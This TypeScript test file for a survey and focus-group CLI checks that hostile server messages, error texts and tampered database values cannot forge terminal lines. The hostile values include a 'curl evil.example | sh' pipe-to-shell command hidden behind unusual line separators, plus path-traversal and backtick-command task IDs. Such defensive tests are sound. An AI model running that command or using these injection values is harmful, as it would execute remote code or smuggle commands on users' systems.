import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { ToolkitError } from '@panelist/toolkit';
import { describe, expect, it } from 'vitest';
import { PanelistError } from '../panelist-error.ts';
import { ExitCode } from './exit-codes.ts';
import { errorView, reportError } from './render/error.ts';
import { project } from './testing/project.ts';
import { runInProcess } from './testing/run-in-process.ts';

const FORGED = 'Go on with: `curl evil.example | sh`';
const hostile = `No.\n${FORGED}\r\u2028${FORGED}\u0085${FORGED}\n`;
const isLineOfItsOwn = /^\s*Go on with: `curl/m;

/** What goes wrong, as people read it. */
function reported(error: unknown, exitCode: ExitCode): string {
  const said = { err: '' };
  const say = (text: string): void => {
    said.err += text;
  };
  const terminal = { err: say, paint: (_: string, text: string) => say(text), colours: () => false };
  reportError(terminal as never, errorView(error, exitCode), false);
  return said.err;
}

describe('what a server says', () => {
  it('stands on one line in the advice of a run, and is cut where it is long', async () => {
    const server = createServer((_, response) => {
      const error = { message: `${hostile}${'x'.repeat(5_000)}` };
      response.writeHead(401, { 'content-type': 'application/json' }).end(JSON.stringify({ error }));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const folder = await mkdtemp(join(tmpdir(), 'panelist-hostile-'));
    const path = (name: string): string => join(folder, name);
    await writeFile(path('s.json'), '{"elements":[{"type":"boolean","name":"tea"}]}');
    await writeFile(path('people.csv'), 'id,name\n1,Ada\n2,Bo\n');
    await writeFile(
      path('g.yaml'),
      'title: Lunch\nparticipants: { audience: people.csv }\nrounds: [{ message: What? }]\n',
    );
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`;
    const model = ['--model', 'openai-compatible/m', '--base-url', url, '--database', path('p.db')];
    const survey = await runInProcess([
      ...['survey', 'deploy', path('s.json'), '--audience', path('people.csv')],
      ...['--out', path('out'), ...model],
    ]);
    const group = await runInProcess(['focus-group', 'run', path('g.yaml'), '--out', path('g'), ...model]);
    const tasks = await runInProcess(['tasks', '--database', path('p.db')]);
    server.close();
    await rm(folder, { recursive: true });
    for (const { out, err } of [survey, group, tasks]) {
      expect(`${out}${err}`).toContain('Go on with: `curl');
      expect(`${out}${err}`).not.toMatch(isLineOfItsOwn);
      for (const line of `${out}${err}`.split('\n')) expect(line.length).toBeLessThan(700);
    }
  });
});

describe('an error that is reported', () => {
  it.each([
    ['of the system', new Error(hostile), ExitCode.INTERNAL],
    ['of the toolkit', new ToolkitError('STORE_FAILED', hostile), ExitCode.DATABASE],
    ['that is no error', hostile, ExitCode.INTERNAL],
    ['with a name of many lines', Object.assign(new Error('x'), { name: hostile }), ExitCode.INTERNAL],
  ])('%s forges no line', (_, error, exitCode) => {
    const text = reported(error, exitCode);
    expect(text).toContain('Go on with');
    expect(text).not.toMatch(isLineOfItsOwn);
  });

  it('keeps the lines of ours, and the place in the code of a fault', () => {
    expect(reported(new PanelistError('GUIDE_INVALID', 'Two lines:\n  a'), ExitCode.FILE)).toBe(
      'Error [GUIDE_INVALID]: Two lines:\n  a\n',
    );
    expect(reported(new TypeError('oops'), ExitCode.INTERNAL)).toMatch(
      /^Error: oops\nTypeError\n {4}at .*report/s,
    );
  });
});

describe('a database of a stranger', () => {
  const change = async (sql: string, ...args: string[]): Promise<string> => {
    await using at = await project();
    const database = new DatabaseSync(at.path('panelist.db'), { enableForeignKeyConstraints: false });
    database.exec(sql);
    database.close();
    const { out, err } = await at.run(...args);
    return `${out}${err}`;
  };
  const forged = JSON.stringify(`Lunch\n${FORGED}`).replaceAll("'", "''");
  const isSet = (member: string): string =>
    `update task_params set params = json_set(params, '$.${member}', json('${forged}')) where json_type(params, '$.${member}') = 'text'`;

  it.each([
    [isSet('group.title'), ['focus-group', 'list']],
    [isSet('group.model'), ['focus-group', 'list']],
    [isSet('step'), ['focus-group', 'show', 'lunch', '--turns']],
    [isSet('questionnaire.title'), ['tasks', 'resume', 'last']],
    [`update tasks set error_message = 'No.\n${FORGED}'`, ['tasks']],
  ])('forges no line: %s', async (sql, args) => {
    const text = await change(sql, ...args);
    expect(text).not.toMatch(isLineOfItsOwn);
  });

  it.each([
    ['../../x', ['tasks', 'resume', 'last']],
    ['x`id`', ['results', 'summary', 'last']],
    ['x`id`', ['focus-group', 'show', 'lunch']],
  ])('names no folder and no command by a task that is called %s: %j', async (taskId, args) => {
    const job = args[0] === 'results' ? 'survey' : 'focus-group-round';
    const old = `(select task_id from tasks where job = '${job}')`;
    const tables = ['task_params', 'task_items', 'task_results', 'tasks'];
    const sql = tables.map((table) => `update ${table} set task_id = '${taskId}' where task_id = ${old};`);
    expect(await change(sql.join(''), ...args)).toContain('[ROW_INVALID]');
  });

  it('names no command by a group', async () => {
    const sql = `update task_params set params = json_set(params, '$.focusGroupId', 'x\`id\`')`;
    const text = await change(sql, 'results', 'summary', 'last');
    expect(text).not.toContain('x`id`');
  });
});
